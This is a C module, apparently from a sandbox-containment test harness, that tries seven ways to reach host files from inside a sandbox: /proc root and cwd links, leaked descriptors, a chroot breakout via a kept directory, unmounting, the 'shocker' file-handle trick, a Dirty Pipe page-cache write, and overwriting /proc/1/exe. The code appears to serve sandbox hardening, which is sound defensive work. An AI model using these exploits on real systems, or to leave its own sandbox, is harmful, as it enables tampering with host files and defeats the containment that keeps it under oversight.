/* Files of the host: through links of /proc, leaked descriptors, handles, and out of a chroot. */
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"

struct goal {
  /* A file that only the host has, without its first slash. */
  const char *path;
  int tried;
  int reached;
};

/* Looks for the host's file below a directory, and further up. */
static void look_below(const char *directory, struct goal *goal) {
  char path[1024];
  static const char *const up[] = {"", "../", "../../../../../../../../../../"};
  for (size_t i = 0; i < sizeof(up) / sizeof(up[0]); i++) {
    struct stat status;
    snprintf(path, sizeof(path), "%s/%s%s", directory, up[i], goal->path);
    goal->tried++;
    if (stat(path, &status) == 0) {
      open_way("%s is the host's", path);
      goal->reached++;
    }
  }
}

static void look_at_roots(int pid, void *context) {
  static const char *const links[] = {"root", "cwd", "task/%d/root", "task/%d/cwd"};
  for (size_t i = 0; i < sizeof(links) / sizeof(links[0]); i++) {
    char name[64];
    char path[128];
    snprintf(name, sizeof(name), links[i], pid);
    snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
    look_below(path, context);
  }
}

/* roots PATH: /proc/<pid>/root and cwd of every process there is. */
static void roots(int count, char **arguments) {
  struct goal goal = {.path = count > 0 ? arguments[0] + 1 : "none"};
  each_process(look_at_roots, &goal);
  if (goal.reached == 0) {
    refused("%d paths through root and cwd: ENOENT", goal.tried);
  }
}

static void look_at_descriptors(int pid, void *context) {
  struct goal *goal = context;
  char path[64];
  snprintf(path, sizeof(path), "/proc/%d/fd", pid);
  DIR *directory = opendir(path);
  if (directory == NULL) {
    return;
  }
  for (struct dirent *entry = readdir(directory); entry != NULL; entry = readdir(directory)) {
    char link[400];
    char target[256];
    snprintf(link, sizeof(link), "%s/%s", path, entry->d_name);
    long length = readlink(link, target, sizeof(target) - 1);
    if (entry->d_name[0] == '.' || length < 0) {
      continue;
    }
    target[length] = '\0';
    look_below(link, goal);
    /* Descriptors of a shell and of PID 1 lead to a terminal or nowhere. */
    if (pid == 1 && getpid() != 1 && strcmp(target, "/dev/null") != 0) {
      open_way("PID 1 has %s open", target);
      goal->reached++;
    }
    if (strncmp(target, "/sys/fs/cgroup", 14) == 0 || strstr(target, "[eventpoll]") != NULL) {
      open_way("process %d has %s open", pid, target);
      goal->reached++;
    }
  }
  closedir(directory);
}

/* descriptors PATH: everything that is open in any process, PID 1's and this one's above all. */
static void descriptors(int count, char **arguments) {
  struct goal goal = {.path = count > 0 ? arguments[0] + 1 : "none"};
  each_process(look_at_descriptors, &goal);
  for (int fd = 3; fd < 1024; fd++) {
    char target[256];
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    long length = readlink(path, target, sizeof(target) - 1);
    if (length > 0) {
      target[length] = '\0';
      open_way("descriptor %d was left open: %s", fd, target);
      goal.reached++;
    }
  }
  if (goal.reached == 0) {
    refused("%d paths through descriptors: ENOENT", goal.tried);
  }
}

static void climb(struct goal *goal) {
  for (int i = 0; i < 64; i++) {
    if (chdir("..") < 0) {
      break;
    }
  }
  look_below(".", goal);
}

/* chroot PATH: out of a chroot by a directory that stays open, as root always could. */
static void out_of_chroot(int count, char **arguments) {
  struct goal goal = {.path = count > 0 ? arguments[0] + 1 : "none"};
  int outside = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  mkdir("/tmp/cage", 0755);
  if (chroot("/tmp/cage") == 0 && fchdir(outside) == 0) {
    climb(&goal);
    if (chroot(".") == 0) {
      look_below("", &goal);
    }
  }
  if (goal.reached == 0) {
    refused("above the sandbox's root is only itself: ENOENT");
  }
}

/* unmount PATH: takes mounts away in the hope that the host's root is below. */
static void unmount(int count, char **arguments) {
  struct goal goal = {.path = count > 0 ? arguments[0] + 1 : "none"};
  int pid = fork_as_root_of_new(CLONE_NEWNS);
  if (pid != 0) {
    wait_for(pid);
    return;
  }
  attempt("umount2 of /", umount2("/", MNT_DETACH));
  attempt("umount2 of /proc", umount2("/proc", MNT_DETACH));
  attempt("umount2 of /sys", umount2("/sys", MNT_DETACH));
  look_below("", &goal);
  climb(&goal);
  refused("%d paths below: ENOENT", goal.tried);
  _exit(0);
}

/* handles: shocker; a handle of inode 2 is the root directory of any ext4. */
static void handles(int count, char **arguments) {
  (void)count;
  (void)arguments;
  struct {
    struct file_handle header;
    unsigned char bytes[MAX_HANDLE_SZ];
  } handle = {.header = {.handle_bytes = 8, .handle_type = 1}};
  static const unsigned char root[8] = {2, 0, 0, 0, 0, 0, 0, 0};
  static const char *const mounts[] = {"/", "/tmp", "/proc", "/sys", "/dev", "/dev/null"};
  memcpy(handle.header.f_handle, root, sizeof(root));
  for (size_t i = 0; i < sizeof(mounts) / sizeof(mounts[0]); i++) {
    int mount = open(mounts[i], O_RDONLY | O_CLOEXEC);
    char what[64];
    snprintf(what, sizeof(what), "open_by_handle_at on %s", mounts[i]);
    attempt(what, open_by_handle_at(mount, &handle.header, O_RDONLY));
  }
}

/* dirty-pipe FILE: a pipe buffer whose flag says that it may be merged into. */
static void dirty_pipe(int count, char **arguments) {
  const char *path = count > 0 ? arguments[0] : "/etc/hostname";
  char byte[4096];
  int ends[2];
  off_t offset = 0;
  int file = open(path, O_RDONLY | O_CLOEXEC);
  if (file < 0 || pipe(ends) < 0) {
    skipped("%s: %s", path, error_name(errno));
    return;
  }
  int capacity = fcntl(ends[1], F_GETPIPE_SZ);
  for (int left = capacity; left > 0; left -= (int)sizeof(byte)) {
    if (write(ends[1], byte, sizeof(byte)) < 0) {
      break;
    }
  }
  for (int left = capacity; left > 0; left -= (int)sizeof(byte)) {
    if (read(ends[0], byte, sizeof(byte)) < 0) {
      break;
    }
  }
  if (splice(file, &offset, ends[1], NULL, 1, 0) != 1) {
    refused("splice: %s", error_name(errno));
    return;
  }
  if (write(ends[1], "ESCAPED", 7) != 7) {
    refused("write: %s", error_name(errno));
    return;
  }
  if (pread(file, byte, 8, 0) > 1 && memcmp(byte + 1, "ESCAPED", 7) == 0) {
    open_way("%s was written in the page cache", path);
  } else {
    refused("%s is unchanged in the page cache", path);
  }
}

/* write-image FILE: a program of the image, by every way to write. */
static void write_image(int count, char **arguments) {
  const char *path = count > 0 ? arguments[0] : "/usr/bin/true";
  long result = write_file(path, "#!/bin/sh\necho escaped\n");
  /* It is the learner's own copy that changes: an overlay copies it up. The host looks at its own.
   */
  refused("%s: %s", path, result < 0 ? error_name(errno) : "only the sandbox's own copy");
  struct stat status;
  int file = open("/proc/1/exe", O_WRONLY | O_CLOEXEC);
  if (file >= 0 && fstat(file, &status) == 0) {
    refused("/proc/1/exe: only the sandbox's own copy");
    close(file);
  } else {
    refused("/proc/1/exe: %s", error_name(errno));
  }
  ask_host();
}

const struct attack FILE_ATTACKS[] = {
    {"roots", roots},
    {"descriptors", descriptors},
    {"chroot", out_of_chroot},
    {"unmount", unmount},
    {"handles", handles},
    {"dirty-pipe", dirty_pipe},
    {"write-image", write_image},
    {NULL, NULL},
};
